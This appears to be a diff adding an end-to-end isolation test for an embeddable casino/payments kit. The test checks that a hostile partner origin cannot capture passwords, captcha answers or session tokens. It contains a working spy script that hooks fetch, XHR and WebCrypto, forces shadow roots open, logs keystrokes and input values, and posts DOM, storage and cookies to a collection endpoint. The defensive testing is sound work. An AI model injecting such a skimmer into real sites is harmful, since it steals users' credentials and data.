@@ -1,0 +1,317 @@
+/**
+ * Nothing secret reaches a partner page (issue 14, DESIGN "Trust: where secrets live").
+ *
+ * A hostile partner on a second origin (127.0.0.2) embeds the kit from the platform
+ * (127.0.0.1). Its pages load a spy script before the kit, under a strict CSP with Trusted Types
+ * and hostile global CSS. The spy does what an attacker's script would: it hooks fetch,
+ * XMLHttpRequest and WebCrypto, forces every shadow root open, listens to every event and every
+ * postMessage, and before each page is left sends the DOM (shadow roots included), every input's
+ * value, storage, cookies and IndexedDB's database names home to the partner's server.
+ *
+ * A player signs up there (with the affiliate's code), signs out and in again (remember me on),
+ * deposits, and launches a game from the in-page game list, which takes them to the platform's
+ * site signed in. Then the test looks through everything the partner's server received for the
+ * password, the captcha answer, every session token and what the kit remembers on the device.
+ * The spy's reach is proven too: it does receive what a partner may know (the user name in the
+ * kit's events, the frames' messages).
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Frame, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { collectConsoleErrors, launchBrowser, ROOT, SITE_DIR, type E2EBrowser } from './harness.ts';
+import { createPlatform, type Platform } from '../../server/app.ts';
+import { embedContentSecurityPolicy } from '../../server/http/security-headers.ts';
+import { buildKit, kitState } from '../../scripts/kit-build.mjs';
+import { kitVersion } from '../../scripts/kit-source.mjs';
+import type { McKit } from '../../kit/loader.ts';
+
+declare global {
+  interface Window {
+    mcKit?: McKit;
+    spySnapshot?: () => Promise<void>;
+  }
+}
+
+const VERSION = kitVersion();
+let platform: Platform;
+let api: string;
+let partner: string;
+let partnerServer: Server;
+let browser: E2EBrowser;
+let dataDir: string;
+const allowedOrigins: string[] = [];
+/** Everything the spy sent home: one record per thing it saw. */
+const loot: { kind: string; page: string; data: unknown }[] = [];
+const player = { userName: `iso${Date.now() % 1_000_000}`, password: 'qz7w3kpx91' };
+
+/** What the spy runs, before the kit, on every page of the partner. */
+const SPY = String.raw`
+(() => {
+  const realFetch = window.fetch.bind(window);
+  const page = location.pathname;
+  const text = (v) => {
+    if (v == null) return '';
+    if (typeof v === 'string') return v;
+    if (v instanceof ArrayBuffer) return new TextDecoder().decode(v);
+    if (ArrayBuffer.isView(v)) return new TextDecoder().decode(v.buffer.slice(v.byteOffset, v.byteOffset + v.byteLength));
+    if (v instanceof Headers) return JSON.stringify([...v]);
+    try { return JSON.stringify(v); } catch { return String(v); }
+  };
+  const pending = new Set();
+  const send = (kind, data) => {
+    const body = JSON.stringify({ kind, page, data });
+    // keepalive outlives the page, for bodies up to 64 kB
+    const sent = realFetch('/collect', { method: 'POST', body, keepalive: body.length < 60000 }).catch(() => undefined);
+    pending.add(sent);
+    sent.finally(() => pending.delete(sent));
+  };
+
+  window.fetch = function (input, init) {
+    const url = typeof input === 'string' ? input : input instanceof URL ? input.href : input.url;
+    send('fetch', { url, headers: text(init && init.headers) + text(input && input.headers), body: text(init && init.body) });
+    return realFetch(input, init).then((res) => {
+      res.clone().text().then((body) => send('fetch-response', { url, body }), () => undefined);
+      return res;
+    });
+  };
+  const xhr = XMLHttpRequest.prototype;
+  const open = xhr.open, setHeader = xhr.setRequestHeader, sendXhr = xhr.send;
+  xhr.open = function (method, url) { send('xhr', { method, url: String(url) }); return open.apply(this, arguments); };
+  xhr.setRequestHeader = function (name, value) { send('xhr-header', { name, value }); return setHeader.apply(this, arguments); };
+  xhr.send = function (body) { send('xhr-body', { body: text(body) }); this.addEventListener('load', () => send('xhr-response', { body: String(this.responseText) })); return sendXhr.apply(this, arguments); };
+
+  for (const name of ['encrypt', 'decrypt', 'sign', 'verify', 'digest', 'importKey', 'exportKey', 'wrapKey', 'unwrapKey', 'deriveKey', 'deriveBits', 'generateKey']) {
+    const real = crypto.subtle[name];
+    crypto.subtle[name] = function (...args) { send('webcrypto', { name, args: args.map(text) }); return real.apply(this, args); };
+  }
+
+  const roots = [];
+  const attach = Element.prototype.attachShadow;
+  Element.prototype.attachShadow = function (init) { const root = attach.call(this, { ...init, mode: 'open' }); roots.push(root); return root; };
+
+  addEventListener('message', (e) => send('postMessage', { origin: e.origin, data: text(e.data) }), true);
+  const seen = (e) => {
+    const path = e.composedPath().filter((n) => n instanceof Element).map((n) => ({ tag: n.localName, value: 'value' in n ? String(n.value) : undefined }));
+    send('event', { type: e.type, detail: text(e.detail), data: text(e.data), key: e.key, path });
+  };
+  const types = ['input', 'beforeinput', 'change', 'keydown', 'keyup', 'keypress', 'paste', 'copy', 'submit', 'formdata', 'focusin', 'click',
+    'mc-navigate', 'mc-login', 'mc-logout', 'mc-register', 'mc-balance', 'mc-launch-game', 'mc-error', 'mc-session', 'mc-deposit',
+    'mc-password-changed', 'mc-password-reset', 'mc-language', 'mc-security-change', 'mc-verification', 'mc-withdraw'];
+  for (const type of types) { addEventListener(type, seen, true); document.addEventListener(type, seen); }
+
+  window.spySnapshot = async () => {
+    const nodes = [];
+    const walk = (root) => {
+      for (const el of root.querySelectorAll('*')) {
+        nodes.push({ tag: el.localName, attrs: [...el.attributes].map((a) => a.name + '=' + a.value), value: 'value' in el ? String(el.value) : undefined, text: el.childElementCount ? undefined : el.textContent });
+        if (el.shadowRoot) walk(el.shadowRoot);
+      }
+    };
+    walk(document);
+    for (const root of roots) walk(root);
+    const store = (s) => Object.fromEntries(Object.keys(s).map((k) => [k, s.getItem(k)]));
+    const databases = indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : [];
+    send('snapshot', { nodes, local: store(localStorage), session: store(sessionStorage), cookie: document.cookie, databases, caches: await caches.keys().catch(() => []) });
+    await Promise.all([...pending]);
+  };
+})();
+`;
+
+/** The page's own script: it routes every kit navigation itself, except a game launch, which goes to the platform. */
+const PAGE = `document.addEventListener('mc-navigate', (e) => { if (!e.detail.path.startsWith('/m/launchGame')) e.preventDefault(); });`;
+
+const html = (body: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Partner</title>
+<link rel="stylesheet" href="/hostile.css">
+<script src="/spy.js"></script>
+<script type="module" src="/page.js"></script>
+<script type="module" src="${api}/kit/${VERSION}/mc-loader.js" data-api="${api}" data-merchant="MC01" data-lang="EN"></script>
+</head><body><main>${body}</main></body></html>`;
+
+const PAGES: Record<string, string> = {
+  '/join.html': '<label>Newsletter <input id="newsletter" type="email"></label><mc-register affiliate-code="AFF001"></mc-register>',
+  '/login.html': '<mc-login></mc-login>',
+  '/deposit.html': '<mc-voucher-center></mc-voucher-center>',
+  '/games.html': '<mc-game-list game-type="RNG" compact></mc-game-list>',
+};
+
+function listen(server: Server, host: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    server.once('error', reject);
+    server.listen(0, host, () => resolve(`http://${host}:${(server.address() as AddressInfo).port}`));
+  });
+}
+
+beforeAll(async () => {
+  if (kitState() !== 'fresh') await buildKit({ quiet: true });
+  dataDir = mkdtempSync(join(tmpdir(), 'mc-isolation-e2e-'));
+  platform = createPlatform({ dbPath: join(dataDir, 'platform.db'), siteDir: SITE_DIR, testMode: true, allowedOrigins, log: () => undefined });
+  api = await platform.listen(0, '127.0.0.1');
+  const hostileCss = readFileSync(join(ROOT, 'embed', 'hostile.css'), 'utf8');
+  partnerServer = createServer((req, res) => {
+    const path = new URL(req.url ?? '/', 'http://x').pathname;
+    if (req.method === 'POST' && path === '/collect') {
+      let body = '';
+      req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
+      req.on('end', () => {
+        loot.push(JSON.parse(body) as (typeof loot)[number]);
+        res.writeHead(204).end();
+      });
+      return;
+    }
+    const files: Record<string, [string, string]> = { '/spy.js': ['text/javascript', SPY], '/page.js': ['text/javascript', PAGE], '/hostile.css': ['text/css', hostileCss] };
+    const file = files[path] ?? (PAGES[path] ? ['text/html; charset=utf-8', html(PAGES[path])] : undefined);
+    if (!file) return void res.writeHead(404).end();
+    res.writeHead(200, { 'Content-Type': file[0], 'Cache-Control': 'no-store', 'Content-Security-Policy': embedContentSecurityPolicy(api) });
+    res.end(file[1]);
+  });
+  partner = await listen(partnerServer, '127.0.0.2');
+  allowedOrigins.push(partner);
+  browser = await launchBrowser();
+}, 180_000);
+
+afterAll(async () => {
+  await browser?.close();
+  partnerServer?.closeAllConnections();
+  await new Promise<void>((done) => (partnerServer ? partnerServer.close(() => done()) : done()));
+  await platform?.close();
+  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
+});
+
+/** The platform's frame inside a partner element. */
+async function frameOf(page: Page, tag: string): Promise<Frame> {
+  const frame = await page.locator(`${tag} iframe`).elementHandle().then((h) => h!.contentFrame());
+  expect(new URL(frame!.url()).origin).toBe(api);
+  return frame!;
+}
+
+/** The kit's session in the frames (the platform's origin, this tab). */
+const frameSession = (frame: Frame) => frame.evaluate(() => JSON.parse(sessionStorage.getItem('MC_SESSION_INFO') ?? 'null') as { token: string; userName: string } | null);
+
+/** Resolves with the detail of the next `type` event on the partner page's document. */
+const nextEvent = (page: Page, type: string) => page.evaluate((t) => new Promise((resolve) => document.addEventListener(t, (e) => resolve((e as CustomEvent).detail), { once: true })), type);
+
+/** The spy sends the page's DOM, storage and cookies home before the player leaves it. */
+async function leave(page: Page): Promise<void> {
+  await page.evaluate(() => window.spySnapshot!());
+}
+
+async function adminPost(path: string): Promise<void> {
+  await fetch(`${api}${path}`, { method: 'POST' });
+}
+
+describe('a hostile partner page', () => {
+  it('gets no password, captcha answer, token or remembered secret through sign-up, sign-in, a deposit and a game launch; the player arrives signed in on the platform', async () => {
+    const page = await browser.newPage();
+    const errors = collectConsoleErrors(page);
+    const secrets: Record<string, string> = { password: player.password };
+
+    // Sign up with the affiliate's code.
+    const captcha = page.waitForResponse((r) => r.url().startsWith(`${api}/wps/captcha`));
+    await page.goto(`${partner}/join.html`);
+    // What the player types into the page's own field, the spy gets (the control for everything below).
+    await page.locator('#newsletter').fill('canary@partner.example');
+    const join = await frameOf(page, 'mc-register');
+    await join.locator('#register-username').waitFor();
+    expect(await join.locator('#register-affiliateCode').inputValue()).toBe('AFF001');
+    const { value } = (await (await captcha).json()) as { value: { id: string } };
+    const answer = ((await (await fetch(`${api}/__test/captcha?id=${encodeURIComponent(value.id)}`)).json()) as { value: { text: string } }).value.text;
+    secrets.captcha = answer;
+    await join.locator('#register-username').fill(player.userName);
+    await join.locator('#register-password').fill(player.password);
+    await join.locator('#register-confirmPassword').fill(player.password);
+    await join.locator('#register-captcha').fill(answer);
+    const registered = nextEvent(page, 'mc-register');
+    await join.locator('button[type="submit"]').click();
+    expect(await registered).toEqual({ userName: player.userName.toLowerCase(), method: 'username' });
+    const row = platform.db
+      .prepare('SELECT a.account AS upline FROM users u JOIN users a ON a.id = u.parent_id WHERE u.account = ?')
+      .get(player.userName.toLowerCase()) as { upline: string } | undefined;
+    expect(row).toEqual({ upline: 'agent' }); // AFF001 is the demo agent's code
+    secrets.registrationToken = (await frameSession(join))!.token;
+    expect(await page.evaluate(() => window.mcKit!.getSession())).toEqual({ userName: player.userName.toLowerCase(), type: 0 });
+    await page.evaluate(() => window.mcKit!.signOut());
+    await leave(page);
+
+    // Sign in again, remember me on.
+    await page.goto(`${partner}/login.html`);
+    const login = await frameOf(page, 'mc-login');
+    await login.locator('#login-username').fill(player.userName);
+    await login.locator('#login-password').fill(player.password);
+    const signedIn = nextEvent(page, 'mc-login');
+    await login.locator('button[type="submit"]').click();
+    expect(await signedIn).toMatchObject({ userName: player.userName.toLowerCase(), type: 0 });
+    secrets.loginToken = (await frameSession(login))!.token;
+    const remembered = await login.evaluate(() => Object.entries(localStorage).filter(([k]) => k.startsWith('MC_')));
+    for (const [key, stored] of remembered) if (stored.length >= 12) secrets[`remembered ${key}`] = stored;
+    await leave(page);
+
+    // Deposit.
+    await page.goto(`${partner}/deposit.html`);
+    const deposit = await frameOf(page, 'mc-voucher-center');
+    await deposit.getByRole('radio', { name: /Bank transfer/ }).check();
+    await deposit.getByRole('textbox', { name: 'Amount' }).fill('500');
+    await deposit.getByLabel('Your bank').selectOption('BDO');
+    const made = nextEvent(page, 'mc-deposit');
+    await deposit.locator('button[type="submit"]').click();
+    expect(await made).toEqual({ status: 'pending' }); // no amount, no id: a partner learns that a deposit happened
+    await deposit.getByText('Waiting for the platform to confirm your transfer').waitFor();
+    const pending = (await (await fetch(`${api}/__admin/deposits?status=pending&account=${player.userName.toLowerCase()}`)).json()) as { id: string }[] | { value: { id: string }[] };
+    const [first] = Array.isArray(pending) ? pending : pending.value;
+    await adminPost(`/__admin/deposits/${first!.id}/approve`);
+    await deposit.getByText('Deposit approved: the money is in your wallet').waitFor();
+    await leave(page);
+
+    // Launch a game from the game list in the page: the platform's site starts it, signed in.
+    await page.goto(`${partner}/games.html`);
+    await page.locator('mc-game-list li.card').first().waitFor();
+    expect(await page.evaluate(() => window.mcKit!.getSession())).toEqual({ userName: player.userName.toLowerCase(), type: 0 });
+    await leave(page);
+    const launched = page.waitForResponse((r) => r.url().startsWith(`${api}/wps/game/launchGame`) && r.ok());
+    await page.locator('mc-game-list button.card-play').first().click();
+    await page.waitForURL((url) => url.origin === api && url.pathname === '/m/launchGame');
+    expect(((await (await launched).json()) as { success: boolean }).success).toBe(true);
+    expect(new URL(page.url()).hash).toBe(''); // the hand-off code left the address bar
+    const site = await page.evaluate(() => JSON.parse(sessionStorage.getItem('MC_SESSION_INFO') ?? 'null') as { token: string; userName: string } | null);
+    expect(site?.userName).toBe(player.userName.toLowerCase());
+    secrets.siteToken = site!.token;
+    expect(errors).toEqual([]);
+
+    // What the partner's server received.
+    const strings: { kind: string; page: string; value: string }[] = [];
+    const collect = (record: (typeof loot)[number], value: unknown) => {
+      if (typeof value === 'string') strings.push({ kind: record.kind, page: record.page, value });
+      else if (Array.isArray(value)) value.forEach((v) => collect(record, v));
+      else if (value && typeof value === 'object') Object.values(value).forEach((v) => collect(record, v));
+    };
+    for (const record of loot) collect(record, record.data);
+    const kinds = new Set(loot.map((r) => r.kind));
+    // The spy was there and reached everything a partner page can reach.
+    expect([...kinds]).toEqual(expect.arrayContaining(['snapshot', 'event', 'postMessage', 'fetch']));
+    expect(loot.filter((r) => r.kind === 'snapshot').map((r) => r.page)).toEqual(['/join.html', '/login.html', '/deposit.html', '/games.html']);
+    expect(strings.some((s) => s.kind === 'event' && s.value.includes(player.userName.toLowerCase()))).toBe(true);
+    expect(strings.some((s) => s.kind === 'event' && s.value === 'canary@partner.example')).toBe(true);
+    expect(strings.some((s) => s.kind === 'snapshot' && s.value === 'canary@partner.example')).toBe(true);
+    expect(strings.some((s) => s.kind === 'postMessage' && s.value.includes('"type":"size"'))).toBe(true);
+
+    const found = Object.entries(secrets).flatMap(([name, secret]) => {
+      const hit = name === 'captcha' ? (s: string) => new RegExp(`(^|[^A-Za-z0-9])${secret}($|[^A-Za-z0-9])`).test(s) : (s: string) => s.includes(secret);
+      return strings.filter((s) => hit(s.value)).map((s) => `${name} in ${s.kind} on ${s.page}: ${s.value.slice(0, 120)}`);
+    });
+    expect(found).toEqual([]);
+    const webcrypto = loot.filter((r) => r.kind === 'webcrypto');
+    expect(webcrypto).toEqual([]); // the page's kit seals nothing: forms and their sealing live in the frames
+  }, 120_000);
+
+  it('refuses to be framed by an origin the merchant does not allow, and a hand-off code redeemed from a partner page', async () => {
+    const framed = await fetch(`${api}/kit/${VERSION}/frame.html?tag=mc-login&origin=${encodeURIComponent('http://127.0.0.3:1')}`);
+    expect(framed.status).toBe(403);
+    const allowed = await fetch(`${api}/kit/${VERSION}/frame.html?tag=mc-login&origin=${encodeURIComponent(partner)}`);
+    expect(allowed.status).toBe(200);
+    expect(allowed.headers.get('content-security-policy')).toContain(`frame-ancestors ${partner}`);
+    expect(allowed.headers.get('content-security-policy')).toContain("require-trusted-types-for 'script'");
+  });
+});
